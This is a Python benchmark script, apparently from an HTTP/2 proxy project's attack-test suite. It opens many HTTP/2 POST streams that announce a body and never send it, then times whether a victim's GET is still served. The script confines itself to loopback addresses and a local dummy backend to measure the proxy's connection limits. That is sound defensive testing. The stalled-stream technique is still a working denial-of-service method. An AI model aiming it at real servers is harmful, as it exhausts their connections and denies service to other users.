#!/usr/bin/env python3
"""HTTP/2 streams that announce a body and never send it (issue 42, item 1).

An attacker from 127.0.0.1 opens CONNS HTTP/2 connections (prior knowledge) and on each
STREAMS POST streams with `content-length: 1000` and no DATA. Then a victim from 127.0.0.2
sends one GET over HTTP/2. Prints, per round: the attacker's streams answered at once (and
their statuses), the server connections the backend holds, and the victim's status and time
to answer (bounded by --patience).

The backend (started here, on 127.0.0.1, unless --backend names one) reads request heads and waits for bodies that never
come, answering GETs at once: what a one-request-at-a-time application server does with a
stalled upload, and the place where held server connections show.

Usage: benches/attacks/h2_stalled_streams.py TCPVS_BINARY [--conns 4] [--streams 100]
       [--max-clients 400] [--per-source 4] [--rounds 3]
(--max-clients 0 and --per-source 0 leave the switch's defaults.) Needs python3 `h2`
(pip install h2). Every loop is bounded; only loopback addresses are used.
"""

import argparse
import asyncio
import os
import socket
import subprocess
import sys
import tempfile
import time

import h2.config
import h2.connection
import h2.events


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Backend:
    """Counts connections open; answers GET at once, waits forever for POST bodies."""

    def __init__(self):
        self.open = 0

    async def serve(self, reader, writer):
        self.open += 1
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                if head.startswith(b"GET"):
                    writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 3\r\n\r\nok\n")
                    await writer.drain()
                    continue
                await reader.read()  # the body that never comes
                return
        except (asyncio.IncompleteReadError, ConnectionError, asyncio.CancelledError):
            return
        finally:
            self.open -= 1
            writer.close()


class H2Client:
    def __init__(self, source, port):
        self.sock = socket.socket()
        self.sock.bind((source, 0))
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        self.statuses = {}
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.setblocking(True)
            self.sock.sendall(data)
            self.sock.setblocking(False)

    def open_stalled(self, authority, n):
        for _ in range(n):
            sid = self.conn.get_next_available_stream_id()
            self.conn.send_headers(sid, [(":method", "POST"), (":scheme", "http"),
                                         (":authority", authority), (":path", "/upload"),
                                         ("content-length", "1000")], end_stream=False)
        self.flush()

    def get(self, authority):
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"),
                                     (":authority", authority), (":path", "/")], end_stream=True)
        self.flush()
        return sid

    def pump(self):
        """Reads what has come; records each stream's status."""
        while True:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                return True
            if not data:
                return False
            for event in self.conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers).get(b":status", b"?").decode()
                    self.statuses[event.stream_id] = status
                elif isinstance(event, h2.events.DataReceived):
                    self.conn.acknowledge_received_data(event.flow_controlled_length,
                                                        event.stream_id)
            self.flush()


def established_to(port):
    """Connections established to 127.0.0.1:port now, as the kernel lists them."""
    out = subprocess.run(["ss", "-Htn", "state", "established", "dst", f"127.0.0.1:{port}"],
                         capture_output=True, text=True, check=False).stdout
    return sum(1 for line in out.splitlines() if line.strip())


def write_rules(path, port, backend_port, max_clients, per_source):
    switch = "[switch]\naccess_log = false\n"
    if max_clients:
        switch += f"max_clients = {max_clients}\n"
    service = f'[virtual.web]\nlisten = "127.0.0.1:{port}"\ndefault_pool = "web"\n'
    if per_source:
        service += f"max_conns_per_source = {per_source}\n"
    pool = f'[pool.web]\nservers = [{{ addr = "127.0.0.1:{backend_port}" }}]\n'
    with open(path, "w") as f:
        f.write(switch + service + pool)


async def wait_listening(port, patience=10.0):
    deadline = time.monotonic() + patience
    while time.monotonic() < deadline:
        try:
            _, w = await asyncio.open_connection("127.0.0.1", port)
            w.close()
            return
        except OSError:
            await asyncio.sleep(0.05)
    raise SystemExit(f"nothing listens on {port}")


async def one_round(args, backend):
    port = free_port()
    with tempfile.TemporaryDirectory() as d:
        rules = os.path.join(d, "rules.toml")
        write_rules(rules, port, args.backend_port, args.max_clients, args.per_source)
        proc = subprocess.Popen([args.binary, "run", "-c", rules],
                                stdout=subprocess.DEVNULL, stderr=open(args.log, "ab") if args.log else subprocess.DEVNULL)
        try:
            await wait_listening(port)
            attackers = [H2Client("127.0.0.1", port) for _ in range(args.conns)]
            for a in attackers:
                a.open_stalled("a.test", args.streams)
            # Let the switch take the streams up (bounded: 2 s), reading what it answers.
            deadline = time.monotonic() + 2.0
            while time.monotonic() < deadline:
                for a in attackers:
                    a.pump()
                await asyncio.sleep(0.05)
            answered = {}
            for a in attackers:
                for status in a.statuses.values():
                    answered[status] = answered.get(status, 0) + 1
            held = established_to(args.backend_port)
            victim = H2Client("127.0.0.2", port)
            started = time.monotonic()
            sid = victim.get("a.test")
            status = None
            while time.monotonic() - started < args.patience:
                if not victim.pump():
                    status = "closed"
                    break
                if sid in victim.statuses:
                    status = victim.statuses[sid]
                    break
                await asyncio.sleep(0.001)
            took = (time.monotonic() - started) * 1000
            print(f"attacker streams answered at once: {answered or 'none'}; "
                  f"server connections held: {held}; "
                  f"victim: {status or 'no answer'} after {took:.1f} ms", flush=True)
            for a in attackers + [victim]:
                a.sock.close()
        finally:
            proc.terminate()
            proc.wait(timeout=10)


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("binary")
    p.add_argument("--conns", type=int, default=4)
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--max-clients", type=int, default=400)
    p.add_argument("--per-source", type=int, default=4)
    p.add_argument("--rounds", type=int, default=3)
    p.add_argument("--patience", type=float, default=10.0)
    p.add_argument("--backend", type=int, default=0,
                   help="the port of a backend on 127.0.0.1 to use (nginx: it waits for the "
                        "bodies and accepts faster than this script's own)")
    p.add_argument("--log", help="append the switch's log to this file")
    args = p.parse_args()
    backend = Backend()
    server = await asyncio.start_server(backend.serve, "127.0.0.1", 0, backlog=4096)
    args.backend_port = args.backend or server.sockets[0].getsockname()[1]
    print(f"{args.conns} connections x {args.streams} stalled POST streams from 127.0.0.1, "
          f"max_clients={args.max_clients or 'default'}, "
          f"max_conns_per_source={args.per_source or 'default'}")
    for _ in range(args.rounds):
        await one_round(args, backend)
        # The switch is gone: its server connections close.
        for _ in range(100):
            if established_to(args.backend_port) == 0:
                break
            await asyncio.sleep(0.05)
    server.close()


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
